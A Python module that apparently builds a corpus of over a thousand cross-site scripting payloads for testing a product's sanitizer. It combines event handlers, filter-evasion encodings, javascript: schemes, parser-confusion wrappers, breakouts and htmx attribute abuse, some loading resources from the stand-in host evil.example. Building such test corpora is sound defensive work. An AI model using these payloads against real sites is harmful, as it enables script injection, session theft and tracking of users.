"""Over a thousand things that hostile customers write, each calling `pwn(its number)` or an outside address if it runs.

Made by combining what is known to run in browsers: elements that load or react, ways to hide a scheme, broken markup
that a parser mends into something else, and the attributes that this product's own scripts would obey.
"""

from __future__ import annotations

import base64
from collections.abc import Iterator
from itertools import product

OUTSIDE = "evil.example"  # whatever is fetched from there is a hit

# an element that reacts by itself, or would if a reader touched it: (markup before the handler, after it)
REACTING = (
    ("<img src=x ", ">"), ("<img src=x:x ", ">"), ("<svg ", "></svg>"), ("<svg><image href=x ", "></svg>"), ("<video><source ", "></video>"),
    ("<video src=x ", "></video>"), ("<audio src=x ", "></audio>"), ("<body ", ">"), ("<details open ", "><summary>s</summary>d</details>"),
    ("<input autofocus ", ">"), ("<select autofocus ", "><option>o</select>"), ("<textarea autofocus ", ">t</textarea>"),
    ("<button autofocus ", ">b</button>"), ("<a href=# autofocus tabindex=1 ", ">a</a>"), ("<marquee ", ">m</marquee>"),
    ("<iframe src=about:blank ", "></iframe>"), ("<object data=x ", "></object>"), ("<embed src=x ", ">"), ("<math ", "><mi>x</mi></math>"),
    ("<style ", "></style>"), ("<link rel=stylesheet href=x ", ">"), ("<script src=x ", "></script>"), ("<form ", "><input></form>"),
    ("<div contenteditable tabindex=1 autofocus ", ">d</div>"), ("<table background=x ", "><td>t</td></table>"),
    ("<svg><animate attributeName=x dur=1s ", "></svg>"), ("<svg><set attributeName=x ", "></svg>"), ("<dialog open ", ">d</dialog>"),
    ("<p style=animation-name:x ", ">p</p>"), ("<custom-thing tabindex=1 autofocus ", ">c</custom-thing>"),
)  # fmt: skip
HANDLERS = ("onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onstart", "onbegin", "onclick", "onanimationstart",
            "onpointerenter", "oncanplay", "onscroll", "onkeydown", "onfocusin")  # fmt: skip

# ways to write one handler so that a filter overlooks it
DISGUISES = (
    "<img src=x {h}='{js}'>", '<img src=x {h}="{js}">', "<img/src=x/{h}={js}>", "<IMG SRC=x {H}={js}>", "<img src=x\n{h}\n=\n{js}>",
    "<img src=x\t{h}={js}>", "<img src=x \x0c{h}={js}>", "<img src=x {h}={js} ", "<<img src=x {h}={js}>", "<img src='x' '' {h}={js}>",
    "<img src=x title='>' {h}={js}>", "<img src=x {h}={ent}>", "<img src=`x` {h}=`{js}`>", "<image src=x {h}={js}>", "<img\x00 src=x {h}={js}>",
    "<im<b>g src=x {h}={js}>", "<scr<script>ipt>{js}</scr</script>ipt>", "<script>{js}</script>", "<script/x>{js}</script>", "<script\n>{js}</script\n>",
    "<ScRiPt>{js}</sCrIpT>", "<script>{js}", "</script><script>{js}</script>", "<script type=module>{js}</script>", "<script src=//{out}/{n}.js></script>",
    "<script src=data:text/javascript,{js}></script>", "<svg><script>{js}</script></svg>", "<svg><script href=data:text/javascript,{js} /></svg>",
    "<svg><script>&#112;wn({n})</script></svg>", "<math><annotation-xml encoding=text/html><img src=x {h}={js}></annotation-xml></math>",
    "<!--><img src=x {h}={js}>-->", "<!-- --!><img src=x {h}={js}> -->", "<![CDATA[><img src=x {h}={js}>]]>", "<?xml ?><img src=x {h}={js}>",
    "<!DOCTYPE x [<!ENTITY y '{js}'>]><script>&y;</script>", "＜script＞{js}＜/script＞", "<script>{js}</script>", "%3Cscript%3E{js}%3C/script%3E",
    "&lt;script&gt;{js}&lt;/script&gt;", "&amp;lt;script&amp;gt;{js}", "\\x3cscript\\x3e{js}\\x3c/script\\x3e", "\\u003cimg src=x {h}={js}\\u003e",
    "+ADw-script+AD4-{js}+ADw-/script+AD4-", "\u202e<script>{js}</script>", "\ufeff<script>{js}</script>", "<b/><script>{js}</script>",
)  # fmt: skip

# ways to write a scheme that runs
SCHEMES = (
    "javascript:{js}", "JaVaScRiPt:{js}", " javascript:{js}", "\x01javascript:{js}", "java\tscript:{js}", "java\nscript:{js}", "java\rscript:{js}",
    "&#106;avascript:{js}", "&#x6A;avascript:{js}", "&#0000106avascript:{js}", "java&Tab;script:{js}", "java&NewLine;script:{js}",
    "javascript&colon;{js}", "javascript://%0a{js}", "javascript:/*--></title></style></textarea></script><svg/onload='{js}'>*/{js}",
    "vbscript:{js}", "data:text/html,<script>parent.{js}</script>", "data:text/html;base64,{b64}", "data:image/svg+xml,<svg onload={js}>",
    "view-source:javascript:{js}", "feed:javascript:{js}", "jar:javascript:{js}", "blob:{js}", "filesystem:{js}", "//{out}/{n}", "https:/\\{out}/{n}",
)  # fmt: skip
LINKS = (
    "<a href='{u}'>press</a>", "<a href={u}>press</a>", '<a target=_self href="{u}">press</a>', "<area href='{u}'>", "<form action='{u}'><input type=submit></form>",
    "<form><button formaction='{u}'>b</button></form>", "<iframe src='{u}'></iframe>", "<object data='{u}'></object>", "<embed src='{u}'>", "<img src='{u}'>",
    "<base href='{u}'>", "<meta http-equiv=refresh content='0;url={u}'>", "<link rel=stylesheet href='{u}'>", "<link rel=prefetch href='{u}'>",
    "<svg><a href='{u}'><text y=9>press</text></a></svg>", "<svg><a xlink:href='{u}'><text y=9>press</text></a></svg>", "<svg><use href='{u}#x'/></svg>",
    "<svg><a><animate attributeName=href values='{u}'/><text y=9>press</text></a></svg>", "<math href='{u}'>press</math>", "<video poster='{u}'></video>",
)  # fmt: skip
MARKDOWN = (
    "[press]({u})", "[press](<{u}>)", "![press]({u})", "[press][r]\n\n[r]: {u}", "<{u}>", "[![x]({u})]({u})", '[press]({u} "title")',
    "[press](x 'y'){u}", "> [press]({u})", "1. [press]({u})", "`a`[press]({u})",
)  # fmt: skip

# markup that means one thing to a filter and another to the browser that gets its output
WRAPS = (
    "<math><mtext><table><mglyph><style><!--</style>{x}", "<math><mtext><mglyph><style><math>{x}</style>", "<svg></p><style><a id=\"</style>{x}\">",
    "<noscript><p title=\"</noscript>{x}\">", "<form><math><mtext></form><form><mglyph><style></math>{x}", "<template>{x}</template>", "<title>{x}</title>",
    "<textarea></textarea>{x}", "<xmp><p title=\"</xmp>{x}\">", "<iframe><p title=\"</iframe>{x}\">", "<noembed><p title=\"</noembed>{x}\">",
    "<noframes><p title=\"</noframes>{x}\">", "<select><style></select>{x}</style>", "<table><tr><td><style>{x}</style>", "<svg><desc>{x}</desc></svg>",
    "<svg><foreignObject>{x}</foreignObject></svg>", "<svg><title>{x}</title></svg>", "<option><style></option></select>{x}", "<plaintext>{x}",
    "<a href='x\"{x}'>press</a>", "<img alt='\"{x}' src=/community/>", "<b title='{x}'>b</b>", "<p lang='\">{x}'>p</p>",
)  # fmt: skip
INNER = ("<img src=x onerror={js}>", "<script>{js}</script>", "<svg onload={js}>", "<iframe srcdoc='<script>parent.{js}</script>'></iframe>",
         "--&gt;<img src=x onerror={js}>", "<details open ontoggle={js}>")  # fmt: skip

# out of the place where a value is put
BREAKOUTS = (
    "\"><script>{js}</script>", "'><script>{js}</script>", "\" onmouseover={js} x=\"", "' onfocus='{js}' autofocus x='", "\" autofocus onfocus={js} \"",
    "</title><script>{js}</script>", "</textarea><script>{js}</script>", "</style><script>{js}</script>", "</template><script>{js}</script>",
    "</svg><script>{js}</script>", "</option></select><img src=x onerror={js}>", "--><script>{js}</script>", "]]><script>{js}</script>", "';{js};//", "\";{js};//",
    "</script><img src=x onerror={js}>", "\\\";{js}//", "${{{js}}}", "{{{{constructor.constructor('{js}')()}}}}", "{{%if 1%}}<script>{js}</script>{{%endif%}}",
    "\u2028{js}\u2029", "</a><img src=x onerror={js}>", "`-{js}-`", "*/{js}/*", "\r\n\r\n<script>{js}</script>", "</bdi><img src=x onerror={js}>",
)  # fmt: skip

# what the product's own scripts and styles would do if customers could write it
OBEYED = (
    "<div hx-get='/community/' hx-trigger='load' hx-on::load='{js}'>d</div>", "<div hx-on:click='{js}' tabindex=0>d</div>", "<div data-hx-get=//{out}/{n} data-hx-trigger=load>d</div>",
    "<div hx-get=//{out}/{n} hx-trigger=load>d</div>", "<div hx-vals='js:{{x:{js}}}' hx-get=/ hx-trigger=load>d</div>", "<div hx-headers='js:{js}' hx-get=/ hx-trigger=load>d</div>",
    "<div hx-ext='{js}'>d</div>", "<form id=htmx><input name=config value={js}></form>", "<a id=document name=cookie href=x>a</a>", "<img name=body><img id=body name=cookie>",
    "<form name=forms><input name=attributes></form>", "<a id=htmx></a><a id=htmx name=config href='data:,{js}'>a</a>", "<p class='dialog is-open' id=palette>p</p>",
    "<style>@import '//{out}/{n}.css';</style>", "<style>body{{background:url(//{out}/{n})}}</style>", "<p style='background:url(//{out}/{n})'>p</p>",
    "<p style='position:fixed;inset:0;z-index:9999'>cover</p>", "<table background=//{out}/{n}><td background=//{out}/{n}>t</td></table>", "<img src=//{out}/{n}.gif width=1>",
    "<img srcset='//{out}/{n} 1x'>", "<picture><source srcset=//{out}/{n}><img></picture>", "<input type=image src=//{out}/{n}>", "<video poster=//{out}/{n} src=//{out}/{n}></video>",
    "<audio src=//{out}/{n} autoplay></audio>", "<link rel=icon href=//{out}/{n}>", "<svg><image href=//{out}/{n} /></svg>", "<svg><feImage href=//{out}/{n} /></svg>",
    "<a href=x ping=//{out}/{n}>a</a>", "<iframe src=//{out}/{n}></iframe>", "<object data=//{out}/{n}></object>", "<bgsound src=//{out}/{n}>", "<isindex action=//{out}/{n}>",
    "![]( //{out}/{n}.gif )", "![x](https://{out}/{n}.gif)", "[![x](https://{out}/{n}.gif)](/community/)", "<body background=//{out}/{n}>", "<html manifest=//{out}/{n}>",
)  # fmt: skip


def _forms() -> Iterator[str]:
    for (before, after), handler in product(REACTING, HANDLERS):
        yield f"{before}{handler}={{js}}{after}"
    for form, handler in product(DISGUISES, ("onerror", "onload")):
        yield form.replace("{h}", handler).replace("{H}", handler.upper())
    for link, scheme in product(LINKS, SCHEMES):
        yield link.replace("{u}", scheme)
    for link, scheme in product(MARKDOWN, SCHEMES):
        yield link.replace("{u}", scheme)
    for wrap, inner in product(WRAPS, INNER):
        yield wrap.replace("{x}", inner)
    yield from (one.replace("{{", "{").replace("}}", "}") for one in BREAKOUTS)
    yield from (one.replace("{{", "{").replace("}}", "}") for one in OBEYED)


def _written(form: str, n: int) -> str:
    js = f"pwn({n})"
    framed = base64.b64encode(f"<script>parent.{js}</script>".encode()).decode()
    entities = "".join(f"&#{ord(letter)};" for letter in js)
    for name, value in (("js", js), ("n", str(n)), ("out", OUTSIDE), ("b64", framed), ("ent", entities)):
        form = form.replace("{" + name + "}", value)
    return form


VECTORS: tuple[str, ...] = tuple(_written(form, n) for n, form in enumerate(dict.fromkeys(_forms())))
